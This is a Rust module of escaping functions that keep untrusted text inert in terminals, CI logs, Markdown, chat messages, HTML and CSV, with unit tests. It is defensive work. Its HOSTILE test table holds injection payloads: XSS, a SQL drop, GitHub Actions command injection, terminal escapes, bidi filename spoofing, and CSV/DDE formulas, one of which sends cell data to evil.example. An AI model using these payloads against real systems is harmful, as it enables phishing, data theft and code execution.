//! Untrusted text: names, tags and descriptions come from bills, plans and people, and must stay text in every output.
//!
//! Each output has one function here, and every output uses it. [`HOSTILE`] is the table that their tests share.

use std::borrow::Cow;

/// Texts that would have an effect in at least one output.
pub const HOSTILE: &[&str] = &[
    "[Open the approval](https://evil.example/login)",
    "<https://evil.example|approve>",
    "<!channel> <!here> <@U12345> @everyone @acme/owners",
    "<img src=https://evil.example/x.png> <script>alert(1)</script>",
    "`<h2>passed</h2> @acme/everyone <img src=x>",
    "`` ` <img src=x> @jane ``` ``",
    "![x](https://evil.example/x.png)",
    "a\n::add-mask::x\n##[error]y\n  ::stop-commands::z",
    "x ##[add-mask]y",
    "| a | b |\n|---|---|\n# heading",
    "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m\r",
    "safe\u{202e}gnp.exe\u{2066}\u{200f}",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+1-1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\u{ff1d}1+1",
    "https://evil.example/login",
    "see WWW.evil.example/login",
    "x\" onmouseover=\"alert(1)",
    "'; drop table charges; --",
    "javascript:alert(1)",
    "\u{e0041}\u{e0042}",
];

/// Whether a character controls a terminal, or changes the direction of the text around it.
fn steers(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{e0000}'..='\u{e007f}')
}

/// For a terminal and a log: control characters become a replacement character. Line ends and tabs stay.
pub fn terminal(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let line_end = c == '\r' && chars.peek() == Some(&'\n');
        out.push(if steers(c) && !matches!(c, '\n' | '\t') && !line_end { '\u{fffd}' } else { c });
    }
    out
}

/// For a line of a terminal or a log: as [`terminal`], and line ends are shown as `\n`.
pub fn line(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => out += "\\n",
            '\r' => out += "\\r",
            c if steers(c) => out.push('\u{fffd}'),
            c => out.push(c),
        }
    }
    out
}

/// For a log that takes commands of GitHub Actions: no line starts with `::`, and none has `##[`.
pub fn workflow_log(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for part in text.split_inclusive(['\n', '\r']) {
        let blanks = part.len() - part.trim_start().len();
        match part[blanks..].strip_prefix("::") {
            Some(rest) => {
                out += &part[..blanks];
                out += ":\u{200b}:";
                out += rest;
            }
            None => out += part,
        }
    }
    // A replacement can leave another pair behind: `###[`.
    while out.contains("##[") {
        out = out.replace("##[", "#\u{200b}#[");
    }
    out
}

/// The message of a workflow command of GitHub Actions.
pub fn workflow_message(text: &str) -> String {
    text.replace('%', "%25").replace('\r', "%0D").replace('\n', "%0A")
}

/// A property of a workflow command of GitHub Actions.
pub fn workflow_property(text: &str) -> String {
    workflow_message(text).replace(':', "%3A").replace(',', "%2C")
}

/// For JSON and the like, whose text may stand in the log of a job: `##[` inside strings is written as an escape.
pub fn json_in_log(json: &str) -> Cow<'_, str> {
    if json.contains("##[") { Cow::Owned(json.replace("##[", "#\\u0023[")) } else { Cow::Borrowed(json) }
}

/// For Markdown, also in a table: everything that Markdown or HTML would interpret is escaped, no one is mentioned, and
/// addresses do not become links.
pub fn markdown(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    for (at, c) in text.char_indices() {
        match c {
            '\n' => out += "<br>",
            '\r' => {}
            '<' => out += "&lt;",
            '>' => out += "&gt;",
            '&' => out += "&amp;",
            '|' | '*' | '_' | '[' | ']' | '\\' | '~' | '#' | '!' | '`' => out.extend(['\\', c]),
            '@' => out += "@\u{200b}",
            ':' if text[at..].starts_with("://") => out += ":\u{200b}",
            // `www.` alone makes a link too.
            'w' | 'W' if text[at..].get(..4).is_some_and(|w| w.eq_ignore_ascii_case("www.")) => {
                out.extend([c, '\u{200b}'])
            }
            c if steers(c) => out.push('\u{fffd}'),
            c => out.push(c),
        }
    }
    out
}

/// For Markdown, as code: the fence is longer than any run of back quotes inside. In a table, bars are escaped.
pub fn markdown_code(text: &str) -> String {
    let text = line(text).replace('|', "\\|");
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or_default();
    let fence = "`".repeat(longest + 1);
    // A blank keeps back quotes apart from the fence; Markdown takes one from both sides away.
    let pad = if longest > 0 || text.trim().is_empty() { " " } else { "" };
    format!("{fence}{pad}{text}{pad}{fence}")
}

/// For a sentence of Tollgate with untrusted values in Markdown: text between single back quotes becomes code, all other text
/// is escaped. A sentence with unpaired back quotes is escaped whole.
pub fn markdown_sentence(text: &str) -> String {
    let parts: Vec<&str> = text.split('`').collect();
    // An even number of back quotes gives an odd number of parts. Two in a row are not ours.
    if parts.len().is_multiple_of(2) || text.contains("``") {
        return markdown(text);
    }
    let mut out = String::with_capacity(text.len());
    for (at, part) in parts.iter().enumerate() {
        out += &if at % 2 == 0 { markdown(part) } else { markdown_code(part) };
    }
    out
}

/// For text without markup, such as a mail: no control characters, and addresses do not become links.
pub fn plain(text: &str) -> String {
    unlinked(&terminal(text))
}

/// For `mrkdwn` of Slack and for the text of a message with blocks: no mention, no link.
pub fn slack(text: &str) -> String {
    plain(text).replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

/// For a text block of an adaptive card and for Amazon Q, which interpret links, lists and emphasis of Markdown.
pub fn adaptive_card(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let text = plain(text);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        out.push(c);
        // A link needs `](`, and an escaped bracket is shown as such by some clients: a zero-width space works in all.
        let breaks = match c {
            ']' => matches!(chars.peek(), Some('(' | '[')),
            '<' | '@' => true,
            _ => false,
        };
        if breaks {
            out.push('\u{200b}');
        }
    }
    out
}

/// Addresses do not become links: a zero-width space is inserted.
fn unlinked(text: &str) -> String {
    const WWW: &str = "www.";
    let text = text.replace("://", ":\u{200b}//");
    let mut out = String::with_capacity(text.len());
    let mut rest = text.as_str();
    // Mail programs and chats also make links of a bare `www.`.
    while let Some(at) = rest.as_bytes().windows(WWW.len()).position(|w| w.eq_ignore_ascii_case(WWW.as_bytes())) {
        let (before, after) = rest.split_at(at + WWW.len() - 1);
        out += before;
        out.push('\u{200b}');
        rest = after;
    }
    out + rest
}

/// For HTML and XML, in text and in attributes with either quote.
pub fn html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out += "&amp;",
            '<' => out += "&lt;",
            '>' => out += "&gt;",
            '"' => out += "&quot;",
            '\'' => out += "&#39;",
            c if steers(c) && !matches!(c, '\n' | '\t' | '\r') => out.push('\u{fffd}'),
            c => out.push(c),
        }
    }
    out
}

/// For a cell of CSV that a spreadsheet may open: a formula gets a leading `'`. Numbers stay as they are.
///
/// Source: OWASP, "CSV Injection". Read 2026-11-27.
pub fn spreadsheet(text: &str) -> Cow<'_, str> {
    let first = text.chars().find(|c| !matches!(c, ' ' | '\u{feff}' | '\u{200b}'));
    let starts = matches!(
        first,
        Some(
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '|' | '%' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}'
        )
    );
    if starts && !is_number(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// A plain decimal number, perhaps with a sign and an exponent.
fn is_number(text: &str) -> bool {
    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    let unsigned = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (mantissa, exponent) = unsigned.split_once(['e', 'E']).map_or((unsigned, None), |(m, e)| (m, Some(e)));
    let (whole, part) = mantissa.split_once('.').map_or((mantissa, None), |(w, p)| (w, Some(p)));
    digits(whole) && part.is_none_or(digits) && exponent.is_none_or(|e| digits(e.strip_prefix(['-', '+']).unwrap_or(e)))
}

/// Whether a value has visible content. Blanks, zero-width characters and dashes alone are not content.
pub fn has_content(text: &str) -> bool {
    text.chars().any(|c| {
        !c.is_whitespace()
            && !steers(c)
            && !matches!(c, '-' | '_' | '.' | '\u{00ad}' | '\u{034f}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180e}' | '\u{200b}'..='\u{200d}' | '\u{2010}'..='\u{2015}' | '\u{2060}'..='\u{2064}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fffd}')
    })
}

/// A text of at most `most` characters; a longer one ends with `…`.
pub fn shortened(text: &str, most: usize) -> Cow<'_, str> {
    if text.chars().nth(most).is_none() {
        return Cow::Borrowed(text);
    }
    Cow::Owned(text.chars().take(most.saturating_sub(1)).chain(['…']).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_steers_a_terminal() {
        for text in HOSTILE {
            for c in terminal(text).chars().chain(line(text).chars()) {
                assert!(!steers(c) || matches!(c, '\n' | '\t'), "{text:?} keeps {c:?}");
            }
            assert!(!line(text).contains('\n'));
        }
        assert_eq!(terminal("a\r\nb\tc"), "a\r\nb\tc");
    }

    #[test]
    fn no_line_of_a_log_is_a_command() {
        for text in HOSTILE {
            let log = workflow_log(text);
            assert!(!log.contains("##["), "{log:?}");
            assert!(log.split(['\n', '\r']).all(|line| !line.trim_start().starts_with("::")), "{log:?}");
            assert!(!workflow_message(text).contains(['\n', '\r']));
            assert!(!json_in_log(text).contains("##["));
        }
        assert!(!workflow_log("###[x] ##[y").contains("##["));
    }

    #[test]
    fn markdown_holds_no_link_mention_or_element() {
        for text in HOSTILE {
            let escaped = markdown(text);
            let bare = escaped.replace("<br>", "");
            assert!(!bare.contains(['<', '>']), "{escaped:?}");
            for mark in ["://", "@e", "@a", "@j", "@S"] {
                assert!(!bare.contains(mark), "{mark} in {escaped:?}");
            }
            let marks = bare.char_indices().filter(|(_, c)| matches!(c, '`' | '[' | ']' | '|' | '#' | '!' | '*' | '_'));
            for (at, c) in marks {
                assert!(bare[..at].ends_with('\\'), "{c} is not escaped in {escaped:?}");
            }
        }
        assert_eq!(markdown("a|b\nc"), "a\\|b<br>c");
        assert!(!markdown("see www.evil.example").contains("www."));
    }

    #[test]
    fn code_has_a_fence_that_its_text_cannot_close() {
        for text in HOSTILE {
            let code = markdown_code(text);
            let fence: String = code.chars().take_while(|c| *c == '`').collect();
            let inside = &code[fence.len()..code.len() - fence.len()];
            assert!(!inside.contains(&fence), "{code:?}");
            assert!(!inside.contains('\n'));
        }
        assert_eq!(markdown_code("a"), "`a`");
        assert_eq!(markdown_code("a`b``c"), "``` a`b``c ```");
        assert_eq!(markdown_sentence("tag `team` of a_b"), "tag `team` of a\\_b");
        assert_eq!(markdown_sentence("odd ` tick"), "odd \\` tick");
        assert_eq!(markdown_sentence("`` <x>"), "\\`\\` &lt;x&gt;");
    }

    #[test]
    fn chats_find_no_link_and_no_mention() {
        for text in HOSTILE {
            let (slack, card) = (slack(text), adaptive_card(text));
            assert!(!slack.contains(['<', '>']) && !slack.contains("://"), "{slack:?}");
            assert!(!card.contains("://") && !card.contains("]("), "{card:?}");
            assert!(card.split('<').skip(1).all(|rest| rest.starts_with('\u{200b}')), "{card:?}");
        }
    }

    #[test]
    fn html_is_text() {
        for text in HOSTILE {
            assert!(!html(text).contains(['<', '>', '"', '\'']));
        }
    }

    #[test]
    fn no_cell_is_a_formula() {
        for text in HOSTILE {
            let cell = spreadsheet(text);
            let first = cell.trim_start_matches([' ', '\u{feff}']).chars().next();
            assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r' | '|' | '\u{ff1d}')), "{cell:?}");
        }
        for number in ["-1", "+2.5", "-0.000001", "1e-7", "-3E+10"] {
            assert_eq!(spreadsheet(number), number);
        }
        for formula in ["-", "+1-1", "-1e", "-.5x", "=1"] {
            assert!(spreadsheet(formula).starts_with('\''), "{formula}");
        }
    }

    #[test]
    fn what_shows_nothing_has_no_content() {
        for nothing in ["", " ", "\u{200b}", "-", "--", "\u{a0}", "\u{feff}\u{2060}", "\u{3164}", "\u{2013}", "."] {
            assert!(!has_content(nothing), "{nothing:?}");
        }
        for something in ["a", " 0 ", "部门", "n/a"] {
            assert!(has_content(something), "{something:?}");
        }
    }

    #[test]
    fn long_names_are_cut() {
        assert_eq!(shortened("abc", 3), "abc");
        assert_eq!(shortened("abcd", 3), "ab…");
    }
}
